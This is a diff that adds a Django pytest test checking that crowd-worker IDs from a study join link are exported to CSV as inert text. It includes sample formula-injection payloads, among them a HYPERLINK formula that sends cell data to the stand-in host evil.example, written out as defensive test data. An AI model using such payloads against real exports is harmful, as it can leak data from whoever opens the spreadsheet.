@@ -13,11 +13,12 @@ from decimal import Decimal
 
 import pytest
 from django.contrib.auth.models import User
+from django.http import QueryDict
 from django.test import Client
 from django.urls import reverse
 
 from evalsite.models import Campaign
-from trials import crowd
+from trials import browser, crowd
 from trials.models import FlagKind, Rater, RaterFlag, RatingSession, Response, SessionState, Trial, TrialKind
 
 pytestmark = pytest.mark.django_db
@@ -143,3 +144,44 @@ def test_the_organizer_downloads_the_exports_and_no_one_else(crowd_campaign):
     stranger = User.objects.create_user("stranger", password="pw", is_staff=True)
     client.force_login(stranger)
     assert client.get(url).status_code == 404
+
+
+def test_crowd_ids_from_the_join_link_never_become_spreadsheet_formulas(crowd_campaign):
+    # The join link's IDs are stored as the browser sent them (trials.browser.platform_params) ...
+    query = QueryDict(
+        "PROLIFIC_PID=%3DHYPERLINK(%22http://evil.example/%22%26A1,%22x%22)&workerId=@SUM(1%2B1)&assignmentId=%2B1-2"
+    )
+    params = browser.platform_params(query)
+    assert params["PROLIFIC_PID"] == '=HYPERLINK("http://evil.example/"&A1,"x")'
+    for code, extra in (("evil-prolific", {"PROLIFIC_PID": params["PROLIFIC_PID"]}), ("-1-2", {})):
+        rater = Rater.objects.create(campaign=crowd_campaign, participant_code=code, platform_params=extra)
+        RatingSession.objects.create(rater=rater, campaign=crowd_campaign, state=SessionState.COMPLETE)
+    mturk = Rater.objects.create(
+        campaign=crowd_campaign,
+        participant_code="evil-mturk",
+        platform_params={k: params[k] for k in ("workerId", "assignmentId")},
+        flagged=True,
+        flag_reason="failed 3 attention checks",
+    )
+    RatingSession.objects.create(rater=mturk, campaign=crowd_campaign, state=SessionState.COMPLETE)
+    # ... and every export writes them as text a spreadsheet shows, never evaluates.
+    assert _rows(crowd.export(crowd_campaign, "prolific-approve")) == [
+        ["5f00aa01"],
+        ["ok-mturk"],
+        ['\'=HYPERLINK("http://evil.example/"&A1,"x")'],
+        ["'-1-2"],
+    ]
+    assert _rows(crowd.export(crowd_campaign, "mturk"))[-1] == [
+        "'+1-2",
+        "'@SUM(1+1)",
+        "",
+        "failed 3 attention checks",
+    ]
+    decisions = _rows(crowd.export(crowd_campaign, "decisions"))
+    cells = [cell for row in decisions for cell in row]
+    assert not [cell for cell in cells if cell[:1] in crowd.FORMULA_STARTS]
+    assert decisions[-1][:5] == [str(mturk.pk), "evil-mturk", "", "'@SUM(1+1)", "'+1-2"]
+    # Amounts and ordinary IDs are unchanged.
+    assert crowd.spreadsheet_safe("5f00aa01") == "5f00aa01" and crowd.spreadsheet_safe(
+        Decimal("-1.5")
+    ) == Decimal("-1.5")
